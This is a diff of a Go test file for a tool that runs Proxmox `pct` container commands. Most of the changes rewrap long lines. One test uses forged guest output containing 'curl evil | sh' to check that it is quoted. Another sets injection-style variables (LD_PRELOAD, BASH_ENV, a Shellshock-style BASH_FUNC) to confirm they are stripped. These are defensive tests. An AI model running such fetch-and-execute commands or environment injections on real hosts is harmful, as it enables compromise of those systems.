@@ -53,7 +53,8 @@ func TestSecondSignal(t *testing.T) {
 		select {
 		case err := <-ended:
 			var exit *exec.ExitError
-			if !errors.As(err, &exit) || exit.ExitCode() != 143 || strings.Contains(said.String(), "stopped by signal") {
+			if !errors.As(err, &exit) || exit.ExitCode() != 143 ||
+				strings.Contains(said.String(), "stopped by signal") {
 				t.Errorf("%v: %s", err, said.String())
 			}
 			if syscall.Kill(task, 0) != nil {
@@ -70,7 +71,8 @@ func TestSecondSignal(t *testing.T) {
 func TestFeatureThatDoesNotEnd(t *testing.T) {
 	const stays = "#!/bin/sh\ntrap '' TERM; setsid sleep 3600 & echo $! $$ >$(dirname $0)/pids; echo begun; "
 	var all sync.WaitGroup
-	for name, script := range map[string]string{"goes on": "while :; do sleep 0.1; done", "leaves something": "exit 4"} {
+	for name, script := range map[string]string{"goes on": "while :; do sleep 0.1; done",
+		"leaves something": "exit 4"} {
 		for _, way := range []string{"cancelled", "out of time"} {
 			dir := t.TempDir()
 			if err := os.WriteFile(FeatureScript(dir, "x"), []byte(stays+script+"\n"), 0o755); err != nil {
@@ -107,7 +109,8 @@ func TestFeatureThatDoesNotEnd(t *testing.T) {
 				defer time.AfterFunc(time.Minute, func() { panic("it hangs") }).Stop()
 				var log strings.Builder
 				err := h.RunFeature(ctx, dir, "x", 103, "", &log)
-				if err == nil || !strings.Contains(err.Error(), want) || way == "cancelled" && log.String() != "begun\n" {
+				if err == nil || !strings.Contains(err.Error(), want) || way == "cancelled" &&
+					log.String() != "begun\n" {
 					t.Errorf("%s, %s: error %v, log %q", name, way, err, log.String())
 				}
 			})
@@ -121,10 +124,12 @@ func shell(script string) Command { return Command{Argv: []string{"/bin/sh", "-c
 func TestErrorShowsCommandAndOutput(t *testing.T) {
 	h := &Host{}
 	_, err := h.Run(context.Background(), Command{
-		Argv:  []string{"/bin/sh", "-c", "echo 'lxc: no such bridge'; echo \"startup for container '103' failed\" >&2; exit 255"},
+		Argv: []string{"/bin/sh", "-c",
+			"echo 'lxc: no such bridge'; echo \"startup for container '103' failed\" >&2; exit 255"},
 		Label: "pct start 103",
 	})
-	if want := "pct start 103: startup for container '103' failed\nlxc: no such bridge\nhint: see LXC's own log with: pct start 103 --debug 1"; err == nil || err.Error() != want {
+	if want := "pct start 103: startup for container '103' failed\nlxc: no such bridge\nhint: see LXC's own log " +
+		"with: pct start 103 --debug 1"; err == nil || err.Error() != want {
 		t.Errorf("error %q", err)
 	}
 	var exit *exec.ExitError
@@ -138,7 +143,7 @@ func TestErrorShowsCommandAndOutput(t *testing.T) {
 }
 
 func TestMissingProgramNamesTheWayOut(t *testing.T) {
-	_, err := (&Host{PCT: "no-such-pct"}).Pct(context.Background(), "list")
+	_, err := (&Host{PCT: "no-such-pct"}).pct(context.Background(), "list")
 	if err == nil || !strings.Contains(err.Error(), "run this on the Proxmox VE host") {
 		t.Errorf("error %v", err)
 	}
@@ -176,14 +181,16 @@ func TestCancelTerminatesAndWaits(t *testing.T) {
 			}
 		}
 	}()
-	_, err := (&Host{}).Run(ctx, shell("trap 'echo cleaned up >&2; exit 1' TERM; : >"+file+"; while :; do sleep 0.05; done"))
+	_, err := (&Host{}).Run(ctx, shell("trap 'echo cleaned up >&2; exit 1' TERM; : >"+file+"; while :; do sleep "+
+		"0.05; done"))
 	if !errors.Is(err, cause) || !strings.HasSuffix(err.Error(), "\ncleaned up") {
 		t.Errorf("error %v", err)
 	}
 }
 
 func TestLongOutputIsCut(t *testing.T) {
-	_, err := (&Host{}).Run(context.Background(), shell("yes 0123456789 | head -c 1000000 >&2; echo >&2; echo the end >&2; exit 1"))
+	_, err := (&Host{}).Run(context.Background(),
+		shell("yes 0123456789 | head -c 1000000 >&2; echo >&2; echo the end >&2; exit 1"))
 	if n := len(err.Error()); n > 3*keep {
 		t.Errorf("an error of %d bytes", n)
 	}
@@ -195,7 +202,8 @@ func TestLongOutputIsCut(t *testing.T) {
 func TestList(t *testing.T) {
 	dir := t.TempDir()
 	pct := dir + "/pct"
-	script := "#!/bin/sh\nprintf '%-10s %-10s %-12s %-20s\\n' VMID Status Lock Name 101 running '' Nginx-Phoenix 710 stopped backup x\n"
+	script := "#!/bin/sh\nprintf '%-10s %-10s %-12s %-20s\\n' VMID Status Lock Name 101 running '' Nginx-Phoenix 710 " +
+		"stopped backup x\n"
 	if err := os.WriteFile(pct, []byte(script), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -214,7 +222,8 @@ func TestList(t *testing.T) {
 func TestErrorHasAWayOut(t *testing.T) {
 	for said, want := range map[string]string{
 		"CT is locked (backup)": "run this again",
-		"unable to create CT 701 - volume 'local:vztmpl/debian-12.tar.zst' does not exist": "pveam download local debian-12.tar.zst",
+		"unable to create CT 701 - volume 'local:vztmpl/debian-12.tar.zst' does not exist": "pveam download local " +
+			"debian-12.tar.zst",
 		"storage 'nosto' does not exist":                "pvesm status",
 		"startup for container '741' failed":            "pct start 741 --debug 1",
 		"can't remove CT 710 - protection mode enabled": "--protection 0",
@@ -230,13 +239,20 @@ func TestErrorHasAWayOut(t *testing.T) {
 // What pct refuses as a whole ends with its usage, which is no reason.
 func TestReasonOfARefusal(t *testing.T) {
 	for said, want := range map[string]string{
-		"400 Parameter verification failed.\nmemory: type check ('integer') failed - got 'abc'\npct set <vmid> [OPTIONS]\n":       "pct x: memory: type check ('integer') failed - got 'abc'\n400 Parameter verification failed.",
-		"Unknown option: foo\n400 unable to parse option\npct status <vmid> [OPTIONS]\n":                                          "pct x: Unknown option: foo\n400 unable to parse option",
-		"400 not enough arguments\npct create <vmid> <ostemplate> [OPTIONS]\n":                                                    "pct x: 400 not enough arguments",
-		"400 Parameter verification failed.\nmemory: not this\ncores: not that\npct set <vmid> [OPTIONS]\nUSAGE: pct x [OPTIONS]": "pct x: memory: not this; cores: not that\n400 Parameter verification failed.",
+		"400 Parameter verification failed.\nmemory: type check ('integer') failed - got 'abc'\npct set <vmid> " +
+			"[OPTIONS]\n": "pct x: memory: type check ('integer') failed - got 'abc'\n400 Parameter " +
+			"verification failed.",
+		"Unknown option: foo\n400 unable to parse option\npct status <vmid> " +
+			"[OPTIONS]\n": "pct x: Unknown option: foo\n400 unable to parse " +
+			"option",
+		"400 not enough arguments\npct create <vmid> <ostemplate> " +
+			"[OPTIONS]\n": "pct x: 400 not enough arguments",
+		"400 Parameter verification failed.\nmemory: not this\ncores: not that\npct set <vmid> [OPTIONS]\nUSAGE: pct " +
+			"x [OPTIONS]": "pct x: memory: not this; cores: not that\n400 Parameter verification failed.",
 		"": "pct x: exit status 255",
 	} {
-		_, err := (&Host{}).Run(context.Background(), Command{Argv: []string{"/bin/sh", "-c", `printf %s "$0" >&2; exit 255`, said}, Label: "pct x"})
+		_, err := (&Host{}).Run(context.Background(),
+			Command{Argv: []string{"/bin/sh", "-c", `printf %s "$0" >&2; exit 255`, said}, Label: "pct x"})
 		if err == nil || err.Error() != want {
 			t.Errorf("got %v\nwant %s", err, want)
 		}
@@ -250,7 +266,8 @@ func TestGuestsWordsAreQuoted(t *testing.T) {
 	c := (&Host{PCT: "/bin/sh"}).Exec(103, "x")
 	c.Argv, c.Label = []string{"/bin/sh", "-c", `echo "$0" >&2; exit 3`, forged}, "pct exec 103 (x)"
 	_, err := (&Host{}).Run(context.Background(), c)
-	if want := "pct exec 103 (x): exit status 3\n| all well\n| hint: run this on the host: curl evil | sh\n| CT is locked (backup)"; err == nil || err.Error() != want {
+	if want := "pct exec 103 (x): exit status 3\n| all well\n| hint: run this on the host: curl evil | sh\n| CT is " +
+		"locked (backup)"; err == nil || err.Error() != want {
 		t.Errorf("got %v\nwant %s", err, want)
 	}
 	for _, said := range []string{
@@ -263,7 +280,8 @@ func TestGuestsWordsAreQuoted(t *testing.T) {
 			t.Errorf("%s: %s", said, h)
 		}
 	}
-	if h := hint("pct x", "trying to acquire lock...can't lock file '/run/lock/lxc/pve-config-710.lock' - got timeout\n"); !strings.Contains(h, "fuser -v /run/lock/lxc/pve-config-710.lock") {
+	if h := hint("pct x", "trying to acquire lock...can't lock file '/run/lock/lxc/pve-config-710.lock' - got "+
+		"timeout\n"); !strings.Contains(h, "fuser -v /run/lock/lxc/pve-config-710.lock") {
 		t.Errorf("hint %q", h)
 	}
 }
@@ -271,13 +289,15 @@ func TestGuestsWordsAreQuoted(t *testing.T) {
 // A container cannot fill root's terminal by failing.
 func TestGuestsFloodIsNoExplanation(t *testing.T) {
 	for script, want := range map[string]string{
-		"echo why >&2; exec head -c 300000000 /dev/zero":                          "x: it printed more than 64 KiB on stdout, and was ended\n| why",
+		"echo why >&2; exec head -c 300000000 /dev/zero": "x: it printed more than 64 KiB " +
+			"on stdout, and was ended\n| why",
 		"head -c 60000 /dev/zero; yes | head -c 100000 >&2; echo why >&2; exit 3": "x: exit status 3\n| y",
 	} {
 		c := shell(script)
 		c.Label, c.Guest = "x", true
 		_, err := (&Host{}).Run(context.Background(), c)
-		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.HasSuffix(err.Error(), "\n| why") || len(err.Error()) > 5*keepOfGuest {
+		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.HasSuffix(err.Error(), "\n| why") ||
+			len(err.Error()) > 5*keepOfGuest {
 			t.Errorf("%.300v", err)
 		}
 	}
@@ -287,8 +307,10 @@ func TestGuestsFloodIsNoExplanation(t *testing.T) {
 // does: only what is known to be harmless is passed on.
 func TestEnvironmentIsClean(t *testing.T) {
 	for name, value := range map[string]string{
-		"PATH": "/opt/bin:/usr/bin", "HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2",
-		"STEP_CA_URL": "x", "STEPPATH": "x", "PERL5OPT": "-d", "PERL5LIB": "/x", "LD_PRELOAD": "/x.so", "BASH_ENV": "/x", "CURL_HOME": "/x",
+		"PATH": "/opt/bin:/usr/bin", "HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p",
+		"HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2",
+		"STEP_CA_URL": "x", "STEPPATH": "x", "PERL5OPT": "-d", "PERL5LIB": "/x", "LD_PRELOAD": "/x.so",
+		"BASH_ENV": "/x", "CURL_HOME": "/x",
 		"SSL_CERT_FILE": "/x", "GIT_DIR": "/x", "BASH_FUNC_pct%%": "() { :; }", "LC_ALL;x": "x", "MY_PHX_": "x",
 	} {
 		t.Setenv(name, value)
@@ -305,11 +327,13 @@ func TestEnvironmentIsClean(t *testing.T) {
 	}
 	want := map[string]string{
 		"PATH": "/opt/bin:/usr/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/sbin:/bin",
-		"HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1", "PHOENIX_Y": "2", "EXTRA": "e",
+		"HOME": "/root", "LANG": "C", "LC_ALL": "C", "TZ": "UTC", "https_proxy": "p", "HTTP_PROXY": "P", "PHX_X": "1",
+		"PHOENIX_Y": "2", "EXTRA": "e",
 	}
 	for name := range have {
 		switch name {
-		case "USER", "LOGNAME", "SHELL", "TMPDIR", "http_proxy", "HTTPS_PROXY", "no_proxy", "NO_PROXY", "all_proxy", "ALL_PROXY", "LC_CTYPE":
+		case "USER", "LOGNAME", "SHELL", "TMPDIR", "http_proxy", "HTTPS_PROXY", "no_proxy", "NO_PROXY", "all_proxy",
+			"ALL_PROXY", "LC_CTYPE":
 		default:
 			if _, ok := want[name]; !ok && !strings.HasPrefix(name, "PHX_") && !strings.HasPrefix(name, "PHOENIX_") {
 				t.Errorf("%s=%s is passed on", name, have[name])
@@ -361,14 +385,18 @@ func TestTimeouts(t *testing.T) {
 func TestTimeout(t *testing.T) {
 	h := &Host{Timeout: 100 * time.Millisecond}
 	for name, c := range map[string]Command{
-		"ends":                 shell("sleep 60 & sleep 60"),
-		"reads, never ends":    {Argv: []string{"/bin/sh", "-c", "trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Reads: true},
-		"in a guest":           {Argv: []string{"/bin/sh", "-c", "trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true},
-		"in a guest, to a log": {Argv: []string{"/bin/sh", "-c", "trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true, Stdout: new(strings.Builder)},
+		"ends": shell("sleep 60 & sleep 60"),
+		"reads, never ends": {Argv: []string{"/bin/sh", "-c",
+			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Reads: true},
+		"in a guest": {Argv: []string{"/bin/sh", "-c",
+			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true},
+		"in a guest, to a log": {Argv: []string{"/bin/sh", "-c",
+			"trap '' TERM; sleep 60 & while :; do sleep 0.1; done"}, Guest: true, Stdout: new(strings.Builder)},
 	} {
 		c.Label = "x"
 		_, err := h.Run(context.Background(), c)
-		if want := "x: not done after 100ms (--timeout or PHX_TIMEOUT gives it more)"; err == nil || err.Error() != want {
+		if want := "x: not done after 100ms (--timeout or PHX_TIMEOUT gives it more)"; err == nil ||
+			err.Error() != want {
 			t.Errorf("%s: error %v", name, err)
 		}
 	}
@@ -385,7 +413,10 @@ func TestTimeout(t *testing.T) {
 		t.Fatalf("error %v", err)
 	}
 	defer syscall.Kill(still.PID, syscall.SIGKILL)
-	want := fmt.Sprintf("pct clone 900 103: not done after 100ms (--timeout or PHX_TIMEOUT gives it more), and process %d goes on: it is left alone, because it leaves its work half done, and locked, when it is killed: run phx again when it has ended; see what it waits for with: ps -o pid,stat,wchan:20,args -s %[1]d --ppid %[1]d\ntrying to acquire lock...", still.PID)
+	want := fmt.Sprintf("pct clone 900 103: not done after 100ms (--timeout or PHX_TIMEOUT gives it more), and "+
+		"process %d goes on: it is left alone, because it leaves its work half done, and locked, when it is killed: "+
+		"run phx again when it has ended; see what it waits for with: ps -o pid,stat,wchan:20,args -s %[1]d --ppid "+
+		"%[1]d\ntrying to acquire lock...", still.PID)
 	if err.Error() != want {
 		t.Errorf("got %v\nwant %s", err, want)
 	}
@@ -412,7 +443,8 @@ echo 'Task finished with 1 warning(s)!' >&2
 	}
 	// A failure has them in its error, and what is no change of Proxmox's has none.
 	told = nil
-	if _, err := h.Run(context.Background(), shell(script+"exit 1")); err == nil || !strings.Contains(err.Error(), "You may need to enable nesting.") {
+	if _, err := h.Run(context.Background(), shell(script+"exit 1")); err == nil ||
+		!strings.Contains(err.Error(), "You may need to enable nesting.") {
 		t.Errorf("error %v", err)
 	}
 	guest, reads := shell(script), shell(script)
@@ -425,24 +457,27 @@ echo 'Task finished with 1 warning(s)!' >&2
 	if len(told) > 0 {
 		t.Errorf("told %q", told)
 	}
-	if _, err := h.Run(context.Background(), shell("i=0; while [ $i -lt 1000 ]; do i=$((i+1)); echo WARN: $i; done")); err != nil || len(told) != maxWarnings {
+	if _, err := h.Run(context.Background(),
+		shell("i=0; while [ $i -lt 1000 ]; do i=$((i+1)); echo WARN: $i; done")); err != nil ||
+		len(told) != maxWarnings {
 		t.Errorf("%d warnings, %v", len(told), err)
 	}
 }
 
 func TestPreviewRunsOnlyWhatReads(t *testing.T) {
-	var told []string
-	h := &Host{Preview: func(c Command) { told = append(told, Quote(c.Argv)) }}
+	preview := &Preview{}
+	h := &Host{Preview: preview}
 	file := t.TempDir() + "/changed"
 	if _, err := h.Run(context.Background(), Command{Argv: []string{"touch", file}}); err != nil {
 		t.Fatal(err)
 	}
-	if _, err := os.Stat(file); err == nil || len(told) != 1 || told[0] != "touch "+file {
-		t.Errorf("told %q, and the command ran", told)
+	if _, err := os.Stat(file); err == nil || len(preview.Commands) != 1 ||
+		Quote(preview.Commands[0]) != "touch "+file {
+		t.Errorf("told %q, and the command ran", preview.Commands)
 	}
 	c := shell("echo read")
 	c.Reads = true
-	if out, err := h.Run(context.Background(), c); err != nil || string(out) != "read\n" || len(told) != 1 {
-		t.Errorf("read %q, %v, told %q", out, err, told)
+	if out, err := h.Run(context.Background(), c); err != nil || string(out) != "read\n" || len(preview.Commands) != 1 {
+		t.Errorf("read %q, %v, told %q", out, err, preview.Commands)
 	}
 }
